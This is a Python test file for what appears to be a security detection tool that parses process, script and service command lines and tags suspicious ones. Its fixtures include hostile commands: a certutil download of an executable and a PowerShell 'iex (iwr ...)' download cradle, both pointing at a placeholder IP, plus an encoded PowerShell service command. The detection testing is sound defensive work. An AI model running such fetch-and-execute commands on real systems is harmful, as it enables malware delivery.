from __future__ import annotations

import polars as pl

from vedette.events.schema import EventClass
from vedette.features.command_line import PROCESS, SCRIPT, SERVICE, CommandLine, read_lines
from vedette.features.command_signs import OTHER, SIGNS
from vedette.testing.commands import commands, happened
from vedette.testing.rows import rows_of

HOSTILE = "certutil -urlcache -f http://192.0.2.7/a.exe C:\\Users\\Public\\a.exe"


def _names(held: list[int]) -> set[str]:
    return {SIGNS[i].name for i in held}


def test_a_row_per_command() -> None:
    rows = rows_of(CommandLine, commands([HOSTILE, "ls -l", " "]))
    assert rows["line"].to_list() == [HOSTILE, "ls -l"]
    assert rows["what"].to_list() == [PROCESS, PROCESS]
    assert rows["account"].to_list() == ["root", "root"]
    assert [_names(h) for h in rows["facts"].to_list()] == [{"certutil_fetch"}, set()]
    assert rows["kind"].to_list() == ["Program fetched from elsewhere", OTHER]


def test_scripts_and_services_are_read_too() -> None:
    script = happened(EventClass.SCRIPT_ACTIVITY, {"script.script_content.value": "iex (iwr http://192.0.2.7/a)"})
    service = happened(EventClass.WINDOWS_SERVICE_ACTIVITY, {"win_service.cmd_line": "cmd /c powershell -enc aaaa"})
    rows = rows_of(CommandLine, script, service)
    assert rows["what"].to_list() == [SCRIPT, SERVICE]
    assert "ps_cradle" in _names(rows["facts"].to_list()[0])


def test_an_end_of_a_process_is_no_command() -> None:
    ended = happened(EventClass.PROCESS_ACTIVITY, {"process.cmd_line": HOSTILE, "activity_id": 2})
    assert rows_of(CommandLine, ended).is_empty()


def test_weak_signs_of_long_scripts_do_not_count() -> None:
    weak, strong = "whoami\nipconfig /all\nhostname", f"whoami\n{HOSTILE}"
    said = read_lines(pl.Series(["whoami", weak, strong])).struct.unnest()
    assert [_names(h) for h in said["facts"].to_list()] == [{"who_am_i"}, set(), {"certutil_fetch"}]
